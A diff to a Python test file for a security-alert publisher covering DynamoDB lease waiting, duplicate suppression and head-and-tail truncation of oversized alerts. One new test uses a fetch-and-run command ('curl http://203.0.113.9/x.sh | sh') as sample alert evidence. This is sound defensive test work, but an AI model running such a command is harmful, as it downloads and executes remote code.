@@ -154,28 +154,73 @@ def test_a_retry_publishes_nothing_twice(stack: Stack) -> None:
     assert counts == {"AlertsOut": 4, "AlertsDuplicate": 2}
 
 
-def test_a_live_claim_of_another_invocation_is_retried_later(stack: Stack) -> None:
-    clock = Clock()
-    a = alert()
+def _claimed_by_a_dead_invocation(stack: Stack, ident: str) -> None:
     boto3.client("dynamodb").put_item(
         TableName=stack.table,
         Item={
-            "uuid": {"S": a.uuid},
+            "uuid": {"S": ident},
             "status": {"S": "in-progress"},
             "owner": {"S": "another-invocation"},
             "lease_until": {"N": str(NOW + 30)},
             "expires": {"N": str(int(NOW + 86400))},
         },
     )
-    p = publisher(stack, clock=clock)
+
+
+class Sleep:
+    """time.sleep for the publisher: advances the fake clock instead of waiting."""
+
+    def __init__(self, clock: Clock, then: Any = None) -> None:
+        self.clock, self.then, self.calls = clock, then, 0
+
+    def __call__(self, seconds: float) -> None:
+        self.calls += 1
+        self.clock.now += seconds
+        if self.then is not None:
+            self.then()
+
+
+def test_a_retry_waits_out_a_dead_invocations_claim_and_publishes(stack: Stack) -> None:
+    # Before: every retry inside the 60 s lease failed with "being published by another
+    # invocation", and a Kinesis record whose retries ran out was lost.
+    clock = Clock()
+    a = alert()
+    _claimed_by_a_dead_invocation(stack, a.uuid)
+    sleep = Sleep(clock)
+    assert publisher(stack, clock=clock, sleep=sleep).publish([a]).published == 1
+    assert clock.now >= NOW + 30  # it waited for the lease, not less
+    assert [m["alert"]["uuid"] for m in stack.alerts()] == [a.uuid]
+
+
+def test_a_claim_published_by_its_owner_while_waiting_is_a_duplicate(stack: Stack) -> None:
+    clock = Clock()
+    a = alert()
+    _claimed_by_a_dead_invocation(stack, a.uuid)
+
+    def owner_finishes() -> None:
+        boto3.client("dynamodb").update_item(
+            TableName=stack.table,
+            Key={"uuid": {"S": a.uuid}},
+            UpdateExpression="SET #s = :p",
+            ExpressionAttributeNames={"#s": "status"},
+            ExpressionAttributeValues={":p": {"S": "published"}},
+        )
+
+    sleep = Sleep(clock, then=owner_finishes)
+    result = publisher(stack, clock=clock, sleep=sleep).publish([a])
+    assert result == PublishResult(published=0, duplicates=1)
+    assert sleep.calls == 1 and stack.alerts() == []
+
+
+def test_without_time_left_to_wait_the_record_fails_and_is_retried(stack: Stack) -> None:
+    clock = Clock()
+    a = alert()
+    _claimed_by_a_dead_invocation(stack, a.uuid)
+    p = publisher(stack, clock=clock, sleep=Sleep(clock), deadline=lambda: 1.0)
     with pytest.raises(PublishError, match="being published by another invocation") as err:
         p.publish([a])
     assert err.value.failed == [a.uuid]
     assert stack.alerts() == []
-    # That invocation died: once its lease has run out, the claim is taken over.
-    clock.now = NOW + 31
-    assert p.publish([a]).published == 1
-    assert [m["alert"]["uuid"] for m in stack.alerts()] == [a.uuid]
 
 
 def test_an_expired_dedup_entry_no_longer_suppresses(stack: Stack) -> None:
@@ -248,9 +293,24 @@ def test_an_oversized_alert_is_cut_with_a_marker_not_dropped(stack: Stack) -> No
     [got] = stack.alerts()
     fields = got["alert"]["output_fields"]
     assert fields["proc.name"] == "bash"
-    assert fields["proc.cmdline"].startswith("AAAA")
-    assert "…[truncated " in fields["proc.cmdline"] and " bytes]" in fields["proc.cmdline"]
+    assert "…[truncated " in fields["proc.cmdline"] and " bytes]…" in fields["proc.cmdline"]
     assert got["alert"]["uuid"] == a.uuid and got["attributes"]["k8s_ns"] == "ns1"
+
+
+def test_a_cut_keeps_head_and_tail_of_the_evidence_and_where_it_happened(stack: Stack) -> None:
+    # Before: the value was cut to its first half and the tail (often the payload) was gone.
+    cmd = "curl http://203.0.113.9/x.sh | sh -c '" + "B" * (300 * 1024) + "' # END-OF-PAYLOAD"
+    where = {"k8s.ns.name": "payments" * 4000, "k8s.pod.name": "api-7d9f8b6c5d-x2x9q"}
+    a = alert(output_fields={"proc.cmdline": cmd, **where})
+    publisher(stack).publish([a])
+    [got] = stack.alerts()
+    fields = got["alert"]["output_fields"]
+    assert fields["proc.cmdline"].startswith("curl http://203.0.113.9/x.sh | sh -c '")
+    assert fields["proc.cmdline"].endswith("' # END-OF-PAYLOAD")
+    assert "…[truncated " in fields["proc.cmdline"]
+    assert fields["k8s.ns.name"] == where["k8s.ns.name"]  # where: never cut
+    assert fields["k8s.pod.name"] == where["k8s.pod.name"]
+    assert got["alert"]["rule"] == a.rule and got["alert"]["priority"] == "Warning"
 
 
 def test_several_big_alerts_are_split_under_the_batch_size_limit(stack: Stack) -> None:
